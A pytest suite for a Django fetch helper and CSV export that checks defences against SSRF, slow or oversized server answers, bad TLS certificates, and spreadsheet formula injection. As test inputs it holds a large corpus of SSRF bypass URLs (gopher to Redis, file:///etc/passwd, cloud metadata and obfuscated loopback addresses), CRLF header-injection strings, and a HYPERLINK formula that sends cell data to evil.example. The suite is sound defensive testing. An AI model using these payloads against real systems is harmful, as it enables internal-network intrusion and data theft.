"""URLs and servers that mean harm, and cells that are formulas.

A made-up DNS answers, and servers of this machine stand for those of the internet.
"""

import csv
import gzip
import logging
import re
import socket
import ssl
import time
import tracemalloc
from collections.abc import Callable, Iterator
from contextlib import suppress
from datetime import UTC, datetime, timedelta
from email.message import Message
from io import StringIO
from threading import Event, Thread
from typing import Any, Literal

import pytest
import trustme

from secure_django import fetch as module
from secure_django.csv import as_text, csv_response
from secure_django.fetch import FetchError, fetch, is_public, split_url

pytestmark = pytest.mark.tier("whole")

HOST = "site.example.com"
PAGE = f"https://{HOST}/page"
PUBLIC = "93.184.215.14"
OK = b"HTTP/1.1 200 OK\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n\r\n"
PARTS = 1200  # a minute of parts: longer than any request lasts
MARK = b"the-secret-of-an-answer"

type Handler = Callable[[socket.socket], None]
type Serve = Callable[..., list[bytes]]

# Where a host leads in the made-up DNS. Whatever else is asked for is public, so that
# the form of a URL alone can refuse it.
DNS = {
    "localhost.example.com": ["127.0.0.1"],
    "127.0.0.1.nip.io": ["127.0.0.1"],
    "7f000001.nip.io": ["127.0.0.1"],
    "foo.localhost": ["127.0.0.1", "::1"],
    "localhost.localdomain": ["127.0.0.1"],
    "metadata.google.internal": ["169.254.169.254"],
    "metadata.azure.example": ["168.63.129.16"],
    "alibaba.example": ["100.100.100.200"],
    "two.example": [PUBLIC, "10.0.0.1"],
    "two-reversed.example": ["10.0.0.1", PUBLIC],
    "six.example": [PUBLIC, "::1"],
    "mapped.example": ["::ffff:127.0.0.1"],
    "nat64.example": ["64:ff9b::7f00:1"],
    "6to4.example": ["2002:7f00:1::"],
    "teredo.example": ["2001:0:7f00:1::"],
    "private.example": ["fd00::1"],
    "link.example": ["fe80::1%1"],
    "zero.example": ["0.0.0.0"],  # noqa: S104 - refused
    "broadcast.example": ["255.255.255.255"],
    "multicast.example": ["239.255.255.250"],
    "nowhere.example": [],
}
BY_NAME = [f"https://{host}/" for host in DNS]
BY_FORM = [
    # Schemes.
    "http://site.example.com/",
    "ftp://site.example.com/",
    "file:///etc/passwd",
    "file://site.example.com/etc/passwd",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "dict://site.example.com/",
    "ldap://site.example.com/",
    "data:text/plain,a",
    "javascript:alert(1)",
    "jar:https://site.example.com/!/",
    "//site.example.com/",
    "site.example.com",
    "https:site.example.com",
    "https:/site.example.com",
    "https:///site.example.com",
    "https://",
    "",
    "view-source:https://site.example.com/",
    # Addresses, in each notation that some program reads.
    "https://127.0.0.1/",
    "https://127.1/",
    "https://0/",
    "https://2130706433/",
    "https://017700000001/",
    "https://0177.0.0.1/",
    "https://0x7f000001/",
    "https://0x7f.0.0.1/",
    "https://0x7f.0x0.0x0.0x1/",
    "https://127.0.0.0x1/",
    "https://127.0.0.1./",
    "https://127.000.000.001/",
    "https://[::1]/",
    "https://[::]/",
    "https://[::ffff:127.0.0.1]/",
    "https://[::ffff:7f00:1]/",
    "https://[0:0:0:0:0:0:0:1]/",
    "https://[64:ff9b::7f00:1]/",
    "https://[fe80::1%25eth0]/",
    "https://[fd00:ec2::254]/",
    "https://[site.example.com]/",
    "https://::1/",
    "https://169.254.169.254/latest/meta-data/",
    "https://93.184.215.14/",
    # Names of this machine and of the network.
    "https://localhost/",
    "https://LOCALHOST/",
    "https://localhost./",
    "https://intranet/",
    "https://site.example.com./",
    "https://site.example.com../",
    "https://.example.com/",
    "https://site..example.com/",
    "https://-site.example.com/",
    "https://site-.example.com/",
    "https://site_name.example.com/",
    "https://*.example.com/",
    "https://" + "a" * 64 + ".example.com/",
    # Other parts before and after the host.
    "https://user@site.example.com/",
    "https://user:password@site.example.com/",
    "https://site.example.com@127.0.0.1/",
    "https://127.0.0.1#@site.example.com/",
    "https://site.example.com#@127.0.0.1\\/",
    "https://site.example.com\\@127.0.0.1/",
    "https://127.0.0.1\\@site.example.com/",
    "https:\\\\site.example.com\\",
    "https://site.example.com%2f@127.0.0.1/",
    "https://site.example.com%00.evil.example/",
    "https://%31%32%37.0.0.1/",
    "https://site.example.com;127.0.0.1/",
    "https://site.example.com,127.0.0.1/",
    "https://site.example.com:443@127.0.0.1/",
    # Ports.
    "https://site.example.com:80/",
    "https://site.example.com:22/",
    "https://site.example.com:6379/",
    "https://site.example.com:0/",
    "https://site.example.com:/",
    "https://site.example.com:443:443/",
    "https://site.example.com:-443/",
    "https://site.example.com:+443/",
    "https://site.example.com:4 43/",
    "https://site.example.com:99999/",
    "https://site.example.com:65979/",  # 443, if 16 bits of it are taken
    "https://site.example.com:٤٤٣/",
    # White space and control characters.
    " https://site.example.com/",
    "https://site.example.com/ ",
    "https://site.example.com/\n",
    "https://site.example.com\n/",
    "https://site.example.com/\r\nHost: evil.example",
    "https://site.example.com/ HTTP/1.1\r\nX: y\r\n\r\n",
    "https://site.exa\tmple.com/",
    "https://site.example.com/\x00",
    "https://site.example.com/\x7f",
    "ht\ntps://site.example.com/",
    "https://site.example.com/a b",
    "https://site.example.com/\u2028",
    # Letters that become others.
    "https://127。0。0。1/",
    "https://127｡0｡0｡1/",
    "https://127．0．0．1/",
    "https://①②⑦.⓪.⓪.①/",
    "https://ⓛocalhost.example.com/",
    "https://ｓite.example.com/",
    "https://site.example。com/",
    "https://sıte.example.com/",
    "https://ſite.example.com/",
    "https://site.example.com／path",
    "https://site.example.com＠127.0.0.1/",
    "https://site.example.com：443/",
    "https://münchen.example/",
    "https://site.example.com\u00ad/",
    "https://site.example.com\u200b/",
    "https://\u202emoc.elpmaxe/",
    "https://site.example.K/",  # the sign of kelvin
    "https://site.example.com/größe",
    # Longer than any page's.
    "https://site.example.com/" + "a" * 2048,
    "https://" + "a." * 2000 + "example/",
]
ADDRESSES = [
    *("0.0.0.0", "0.1.2.3", "10.255.255.255", "100.64.0.1", "100.127.255.255"),  # noqa: S104 - refused
    *("127.0.0.1", "127.255.255.254", "168.63.129.16", "169.254.169.254"),
    *("172.16.0.1", "172.31.255.255", "192.0.0.1", "192.0.0.192", "192.0.2.1"),
    *("192.88.99.1", "192.168.0.1", "198.18.0.1", "198.51.100.1", "203.0.113.1"),
    *("224.0.0.1", "239.255.255.250", "240.0.0.1", "255.255.255.255"),
    *("::", "::1", "::7f00:1", "::ffff:127.0.0.1", "::ffff:0:127.0.0.1"),
    *("::ffff:8.8.8.8", "64:ff9b::7f00:1", "64:ff9b::808:808", "64:ff9b:1::1"),
    *("100::1", "2001::1", "2001:0:7f00:1::", "2001:10::1", "2001:20::1"),
    *("2001:db8::1", "2002:7f00:1::", "2002:808:808::", "5f00::1", "fc00::1"),
    *("fd00:ec2::254", "fe80::1", "fe80::1%1", "fec0::1", "ff02::1", "ff0e::1"),
]
GOOD = {
    "https://example.com": ("example.com", 443, "/"),
    "HTTPS://EXAMPLE.com:443?a=b": ("example.com", 443, "/?a=b"),
    "https://xn--mnchen-3ya.example/%E4%B8%AD?x[]=1&y=(2)#part": (
        "xn--mnchen-3ya.example",
        443,
        "/%E4%B8%AD?x[]=1&y=(2)",
    ),
    "https://a-b.1password.co.uk/~a/b;c,d!$'*+:@": (
        "a-b.1password.co.uk",
        443,
        "/~a/b;c,d!$'*+:@",
    ),
    "https://hooks.example.com//services/T0/B0": (
        "hooks.example.com",
        443,
        "//services/T0/B0",
    ),
}


@pytest.fixture
def resolved(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Answer as the made-up DNS, and return the names that it is asked for."""
    asked: list[str] = []

    def getaddrinfo(host: str, port: int, **options: Any) -> list[Any]:
        asked.append(host)
        addresses = DNS.get(host, [PUBLIC])
        return [
            (socket.AF_INET6 if ":" in it else socket.AF_INET, 1, 6, "", (it, port))
            for it in addresses
        ]

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    return asked


@pytest.fixture
def connections(monkeypatch: pytest.MonkeyPatch) -> list[Any]:
    """Refuse every connection, and return their addresses."""
    tried: list[Any] = []

    class Closed(socket.socket):
        def connect(self, address: Any) -> None:
            tried.append(address)
            raise ConnectionRefusedError

    monkeypatch.setattr(socket, "socket", Closed)
    return tried


@pytest.fixture
def authority() -> trustme.CA:
    """Return an authority that fetch() trusts."""
    authority = trustme.CA()
    authority.configure_trust(module.TLS)
    return authority


@pytest.fixture
def serve(authority: trustme.CA, monkeypatch: pytest.MonkeyPatch) -> Iterator[Serve]:
    """Return a function that starts the server of every host, with a handler."""
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(60)
    addresses = [(socket.AF_INET, listener.getsockname())]
    # In place of the check of addresses, which would refuse this machine.
    monkeypatch.setattr(module, "public_addresses", lambda host, port: addresses)
    monkeypatch.setattr(module, "SECONDS", 1)

    def start(
        handler: Handler, certificate: trustme.LeafCert | None = None
    ) -> list[bytes]:
        received: list[bytes] = []
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        (certificate or authority.issue_cert(HOST)).configure_cert(context)

        def answer() -> None:
            while True:
                with suppress(OSError):
                    plain, _ = listener.accept()
                    with plain, context.wrap_socket(plain, server_side=True) as client:
                        received.append(client.recv(2**16))
                        handler(client)
                    continue
                if listener.fileno() == -1:
                    return

        Thread(target=answer, daemon=True).start()
        return received

    yield start
    listener.close()


def send(*parts: bytes) -> Handler:
    """Return a handler that sends the parts, the last of several for a minute."""

    def handle(client: socket.socket) -> None:
        for part in parts[:-1] or parts:
            client.sendall(part)
        for _ in range(PARTS if parts[1:] else 0):
            client.sendall(parts[-1])
            time.sleep(0.05)

    return handle


def test_corpus_is_large() -> None:
    assert len({*BY_FORM, *BY_NAME}) == len(BY_FORM) + len(BY_NAME) >= 120


@pytest.mark.parametrize("url", BY_FORM, ids=ascii)
def test_url_of_another_form_is_not_even_resolved(
    url: str, resolved: list[str], connections: list[Any]
) -> None:
    with pytest.raises(FetchError, match="Only URLs like"):
        fetch(url)
    with pytest.raises(FetchError):
        split_url(url)
    assert resolved == connections == []


@pytest.mark.parametrize("url", BY_NAME)
def test_host_that_leads_inside_gets_no_connection(
    url: str, resolved: list[str], connections: list[Any]
) -> None:
    with pytest.raises(FetchError, match="no public IP address"):
        fetch(url)
    assert len(resolved) == 1
    assert connections == []


@pytest.mark.parametrize("address", ADDRESSES)
def test_address_is_not_public(address: str) -> None:
    assert not is_public(address)


def test_addresses_of_the_internet_are_public() -> None:
    for address in ("8.8.8.8", "1.1.1.1", "2606:4700:4700::1111", "2a00:1450::1"):
        assert is_public(address)


@pytest.mark.parametrize("url", GOOD)
def test_good_url_is_split(url: str) -> None:
    assert split_url(url) == GOOD[url]


def test_other_port_is_for_the_caller_to_allow() -> None:
    assert split_url(f"https://{HOST}:8443/", {8443}).port == 8443
    with pytest.raises(FetchError):
        split_url(f"https://{HOST}/", {8443})


@pytest.mark.usefixtures("connections")
def test_dns_that_changes_its_mind_is_asked_once(
    connections: list[Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    answers = iter([PUBLIC, "127.0.0.1", "169.254.169.254"])

    def getaddrinfo(host: str, port: int, **options: Any) -> list[Any]:
        return [(socket.AF_INET, 1, 6, "", (next(answers), port))]

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    with pytest.raises(FetchError, match="does not answer"):
        fetch(PAGE)
    assert connections == [(PUBLIC, 443)]
    assert next(answers) == "127.0.0.1"


def test_dns_that_does_not_answer_ends_in_time(
    connections: list[Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    answer = Event()
    monkeypatch.setattr(
        socket, "getaddrinfo", lambda *args, **kw: answer.wait(60) and []
    )
    monkeypatch.setattr(module, "SECONDS", 0.3)
    with pytest.raises(FetchError, match="no public IP address"):
        fetch(PAGE)
    assert not answer.is_set()
    answer.set()
    assert connections == []


@pytest.mark.parametrize("error", [OSError(), UnicodeError(), socket.gaierror()])
def test_name_that_dns_refuses_is_an_error_of_its_own(
    error: Exception, monkeypatch: pytest.MonkeyPatch
) -> None:
    def getaddrinfo(*args: Any, **options: Any) -> None:
        raise error

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    with pytest.raises(FetchError, match="no public IP address"):
        fetch(PAGE)


def test_many_addresses_that_do_not_answer_end_in_time(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    tried: list[Any] = []

    class Silent(socket.socket):
        def connect(self, address: Any) -> None:
            tried.append(address)
            time.sleep(self.gettimeout() or 60)
            raise TimeoutError

    monkeypatch.setattr(socket, "socket", Silent)
    addresses = [(socket.AF_INET, (PUBLIC, 443))] * 1000
    monkeypatch.setattr(module, "public_addresses", lambda host, port: addresses)
    monkeypatch.setattr(module, "CONNECT_SECONDS", 0.2)
    monkeypatch.setattr(module, "SECONDS", 1)
    with pytest.raises(FetchError, match="in time"):
        fetch(PAGE)
    assert 1 < len(tried) <= 6


def test_second_address_is_tried(serve: Serve, monkeypatch: pytest.MonkeyPatch) -> None:
    serve(send(OK + b"Content-Length: 2\r\n\r\nok"))
    (address,) = module.public_addresses(HOST, 443)
    closed = socket.create_server(("127.0.0.1", 0))
    dead = (socket.AF_INET, closed.getsockname())
    closed.close()
    monkeypatch.setattr(module, "public_addresses", lambda host, port: [dead, address])
    assert fetch(PAGE).content == b"ok"


@pytest.mark.parametrize("status", [300, 301, 302, 303, 305, 307, 308])
@pytest.mark.parametrize(
    "target",
    [
        "http://127.0.0.1/",
        "https://127.0.0.1/",
        "https://localhost/",
        "/page",
        "//[::1]/",
    ],
)
def test_redirect_is_given_back(status: int, target: str, serve: Serve) -> None:
    received = serve(
        send(
            f"HTTP/1.1 {status} Moved\r\nContent-Length: 0\r\nLocation: {target}\r\n"
            "Refresh: 0; url=http://127.0.0.1/\r\n\r\n".encode()
        )
    )
    answer = fetch(PAGE)
    assert answer.status == status
    assert answer.headers["Location"] == target
    assert len(received) == 1
    with pytest.raises(FetchError):
        fetch(answer.headers["Location"])


SLOW = {
    "status": (b"HTTP/1.1 2", b"0"),
    "headers": (OK, b"a"),
    "continue": (b"", b"HTTP/1.1 100 Continue\r\n\r\n"),
    "body": (OK + b"\r\n", b"a"),
    "length": (OK + b"Content-Length: 1000\r\n\r\n", b"a"),
    "chunk size": (OK + CHUNKED, b"0"),
    "chunk": (OK + CHUNKED + b"ffff\r\n", b"a"),
    "chunks": (OK + CHUNKED, b"1\r\na\r\n"),
    "chunk extension": (OK + CHUNKED + b"1;", b"a"),
    "trailer": (OK + CHUNKED + b"0\r\n", b"a"),
    "silence": (OK, b""),
}
ENDLESS = {
    "nothing": (b"",),
    "status line": (b"HTTP/1.1 200 ", b"a" * 2**16),
    "header line": (OK + b"a: ", b"a" * 2**16),
    "header lines": (OK, b"a: b\r\n" * 2**12),
    "continue": (b"", b"HTTP/1.1 100 Continue\r\n\r\n" * 2**12),
    "body": (OK + b"\r\n", bytes(2**20)),
    "length": (OK + b"Content-Length: 1000000000000\r\n\r\n", bytes(2**20)),
    "negative length": (OK + b"Content-Length: -5\r\n\r\n", bytes(2**20)),
    "chunk -1": (OK + CHUNKED + b"-1\r\n", bytes(2**20)),
    "chunk -5": (OK + CHUNKED + b"-5\r\n", bytes(2**20)),
    "large chunk": (OK + CHUNKED + b"ffffffffff\r\n", bytes(2**20)),
    "chunk size": (OK + CHUNKED, b"0" * 2**16),
    "tiny chunks": (OK + CHUNKED, b"1\r\na\r\n" * 2**14),
    "no HTTP": (MARK + b"\r\n\r\n",),
    "no number": (b"HTTP/1.1 " + MARK + b" OK\r\n\r\n",),
    "old HTTP": (b"<p>Hello</p>",),
    "NUL": (bytes(100),),
    "cut": (OK + b"Content-Length: 9\r\n\r\n" + MARK[:5],),
    "cut chunk": (OK + CHUNKED + b"9\r\nhello",),
    "chunk of no number": (OK + CHUNKED + MARK + b"\r\n",),
    "gzip": (OK + b"Content-Encoding: gzip\r\n\r\n" + gzip.compress(bytes(2**24)),),
    "two codings": (
        OK + b"Content-Encoding: identity, br\r\n\r\n" + gzip.compress(bytes(2**24)),
    ),
}


@pytest.mark.parametrize("name", SLOW)
def test_slow_answer_ends_in_time(name: str, serve: Serve) -> None:
    received = serve(send(*SLOW[name]))
    with pytest.raises(FetchError, match="in time"):
        fetch(PAGE)
    assert len(received) == 1


@pytest.mark.parametrize("name", ENDLESS)
def test_bad_answer_is_one_sentence_and_fills_no_memory(
    name: str,
    serve: Serve,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.DEBUG)
    monkeypatch.setattr(module, "SECONDS", 5)
    serve(send(*ENDLESS[name]))
    tracemalloc.start()
    reason = r"is too large|cannot be read|in time"
    with pytest.raises(FetchError, match=reason) as failure:
        fetch(PAGE)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 48 * 1024**2, "http.client keeps each chunk by itself, however small"
    error = failure.value
    assert error.__suppress_context__ or not error.__context__
    assert MARK.decode() not in f"{error}{caplog.text}"


def test_size_is_exact(serve: Serve) -> None:
    serve(send(OK + b"\r\n" + b"a" * 100))
    assert fetch(PAGE, max_bytes=100).content == b"a" * 100
    with pytest.raises(FetchError, match="too large"):
        fetch(PAGE, max_bytes=99)


def test_server_that_reads_nothing_ends_in_time(serve: Serve) -> None:
    serve(lambda client: time.sleep(60))
    with pytest.raises(FetchError, match="in time"):
        fetch(PAGE, method="POST", body=bytes(64 * 1024**2))


@pytest.mark.parametrize("parts", [(b"", b""), (b"\x16\x03\x03\x40\x00", b"a")])
def test_slow_handshake_ends_in_time(
    parts: tuple[bytes, bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    listener = socket.create_server(("127.0.0.1", 0))

    def drip() -> None:
        client, _ = listener.accept()
        with client, suppress(OSError):
            send(*parts)(client)

    Thread(target=drip, daemon=True).start()
    addresses = [(socket.AF_INET, listener.getsockname())]
    monkeypatch.setattr(module, "public_addresses", lambda host, port: addresses)
    monkeypatch.setattr(module, "SECONDS", 1)
    with pytest.raises(FetchError, match="in time"):
        fetch(PAGE)
    listener.close()


def test_wrong_certificates_are_refused(serve: Serve, authority: trustme.CA) -> None:
    past = datetime.now(UTC) - timedelta(days=1)
    wrong = [
        authority.issue_cert("another.example.com"),
        authority.issue_cert("example.com"),
        authority.issue_cert("*.sub.example.com"),
        authority.issue_cert("127.0.0.1"),
        authority.issue_cert(common_name=HOST),
        authority.issue_cert(HOST, not_after=past),
        trustme.CA().issue_cert(HOST),
    ]
    received = serve(send(OK + b"\r\n"), wrong[0])
    with pytest.raises(FetchError, match="certificate"):
        fetch(PAGE)
    assert received == []
    for certificate in wrong[1:]:
        # Another server; the former goes on with the former certificate.
        assert refused(certificate)


def refused(certificate: trustme.LeafCert) -> bool:
    """Return whether fetch() refuses a server, before it sends anything."""
    listener = socket.create_server(("127.0.0.1", 0))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    certificate.configure_cert(context)
    received: list[bytes] = []

    def answer() -> None:
        with suppress(OSError):
            plain, _ = listener.accept()
            with plain, context.wrap_socket(plain, server_side=True) as client:
                received.append(client.recv(2**16))

    thread = Thread(target=answer, daemon=True)
    thread.start()
    addresses = [(socket.AF_INET, listener.getsockname())]
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(module, "public_addresses", lambda host, port: addresses)
        with pytest.raises(FetchError, match="certificate"):
            fetch(PAGE)
    thread.join(60)
    listener.close()
    return received == []


def test_server_without_tls_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    listener = socket.create_server(("127.0.0.1", 0))

    def answer() -> None:
        client, _ = listener.accept()
        with client:
            client.sendall(OK + b"\r\nhello")

    Thread(target=answer, daemon=True).start()
    addresses = [(socket.AF_INET, listener.getsockname())]
    monkeypatch.setattr(module, "public_addresses", lambda host, port: addresses)
    with pytest.raises(FetchError, match="cannot be read"):
        fetch(PAGE)
    listener.close()


def test_proxy_of_the_environment_is_not_used(
    serve: Serve, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy"):
        monkeypatch.setenv(name, "http://127.0.0.1:9/")
    received = serve(send(OK + b"Content-Length: 2\r\n\r\nok"))
    assert fetch(PAGE).content == b"ok"
    assert received[0].startswith(b"GET /page HTTP/1.1\r\nHost: site.example.com\r\n")


def test_caller_cannot_ask_for_a_compressed_answer(serve: Serve) -> None:
    received = serve(send(OK + b"Content-Length: 2\r\n\r\nok"))
    fetch(PAGE, headers={"X-Signature": "a"})
    assert b"X-Signature: a" in received[0]
    assert b"gzip" not in received[0]
    with pytest.raises(ValueError, match="itself"):
        fetch(PAGE, headers={"accept-encoding": "gzip"})
    with pytest.raises(FetchError):
        fetch(PAGE, headers={"X": "a\r\nHost: evil.example"})
    assert len(received) == 1


SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫−"
FORMULA = 'HYPERLINK("https://evil.example/?"&A1,"Click")'
BEFORE = [
    *("", " ", "\t", "\r", "\n", "\r\n", '"', "'", '""', "\ufeff", "\xa0", "\u200b"),
    *("\x00", " \t ", "\u3000", "“", "\u202e", "\x0b", "\x1f"),
]
CELLS = [
    f"{start}{before}{sign}{FORMULA}"
    for start in ("", "Ann;", "Ann,", "Ann\t", "Ann|", "Ann\n", "Ann\r", ";;", "-5;")
    for before in BEFORE
    for sign in SIGNS
]


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
@pytest.mark.parametrize("quoting", [csv.QUOTE_MINIMAL, csv.QUOTE_NONE])
def test_no_program_finds_a_formula(separator: str, quoting: Literal[0, 3]) -> None:
    """Read each file as programs with other settings do."""
    skipped = "".join(BEFORE) + '"“”'
    for cell in CELLS:
        text = csv_response("notes", [["Ann", cell, 1]]).content.decode("utf-8-sig")
        # Without quotes, a line ends at each line end.
        lines = StringIO(text, newline="")
        reader = csv.reader(
            re.split("[\r\n]+", text) if quoting == csv.QUOTE_NONE else lines,
            delimiter=separator,
            quoting=quoting,
        )
        for row in reader:
            for found in row:
                assert found.strip("'") == "" or (
                    found.lstrip(skipped.replace("'", ""))[:1] not in tuple(SIGNS)
                ), (cell, found)


@pytest.mark.parametrize(
    "text",
    [
        *("", "Ann", "a-b", "ann@site.example", "1 + 1 = 2", "x = y", "C++", "a, b; c"),
        *(
            "-5",
            "+5",
            "-5.25",
            "1e5",
            "-1E-5",
            "2026-11-28",
            "O'Brien",
            "https://a/?b=c",
        ),
        *("Zoë", "音楽", "5 - 3", "(-5)", "a\nb", "50%", "#1", "!", "_"),
    ],
)
def test_harmless_cell_stays_as_it_is(text: str) -> None:
    assert as_text(text) == text


def test_values_of_python_stay_readable() -> None:
    assert [as_text(value) for value in (None, -5, 2.5, True, timedelta(days=-1))] == [
        "",
        "-5",
        "2.5",
        "True",
        "'-1 day, 0:00:00",
    ]


def test_long_text_takes_no_time() -> None:
    for part in ("\n", " ", '"', "=", "-", "1", ";", "\ufeff", "-1 ", ";-"):
        started = time.process_time()
        as_text(part * 200_000)
        as_text(part * 200_000 + "x")
        assert time.process_time() - started < 2, part


def test_name_of_a_download_adds_no_header() -> None:
    for name in ('a"; filename=evil.exe; x="', "Zoë", "a;b", "a\r\nSet-Cookie: b=c"):
        header = csv_response(name, []).headers["Content-Disposition"]
        assert header.startswith("attachment; filename")
        assert not {"\r", "\n"} & {*header}
        parsed = Message()
        parsed["Content-Disposition"] = header
        assert parsed.get_content_disposition() == "attachment"
        assert parsed.get_filename() == f"{name}.csv"
